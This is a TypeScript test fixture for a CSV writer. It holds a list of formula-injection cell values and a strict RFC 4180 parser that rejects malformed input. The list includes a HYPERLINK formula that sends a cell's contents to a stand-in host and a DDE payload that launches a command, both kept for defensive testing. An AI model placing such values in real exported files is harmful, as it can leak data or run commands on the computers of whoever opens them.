/** Cell values a spreadsheet would run as formulas (or that some importers turn into one). */
export const HOSTILE_VALUES = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '\t=1+1',
  '\tplain after a tab',
  '\r=1+1',
  '\rplain after a CR',
  '\n=1+1',
  '  =1+1',
  '-1,=2,"3"\n@4',
];

/**
 * An RFC 4180 reader that refuses what the RFC does not allow (a quote inside an unquoted field,
 * text after a closing quote, an unterminated quoted field, a bare CR), so a writer bug shows up
 * as an error instead of a plausible misreading. LF alone also ends a record (our default).
 */
export function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  const n = text.length;
  let row: string[] = [];
  let i = 0;
  while (i < n) {
    let field = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= n) throw new Error('unterminated quoted field');
        const ch = text[i++];
        if (ch !== '"') field += ch;
        else if (text[i] === '"') {
          field += '"';
          i++;
        } else break;
      }
      if (i < n && !',\r\n'.includes(text[i])) throw new Error(`text after a closing quote at ${i}`);
    } else {
      for (; i < n && !',\r\n'.includes(text[i]); i++) {
        if (text[i] === '"') throw new Error(`quote inside an unquoted field at ${i}`);
        field += text[i];
      }
    }
    row.push(field);
    if (i >= n) break;
    const sep = text[i++];
    if (sep === ',') {
      if (i === n) row.push('');
      continue;
    }
    if (sep === '\r' && text[i++] !== '\n') throw new Error(`bare CR at ${i - 2}`);
    rows.push(row);
    row = [];
  }
  if (row.length) rows.push(row);
  return rows;
}
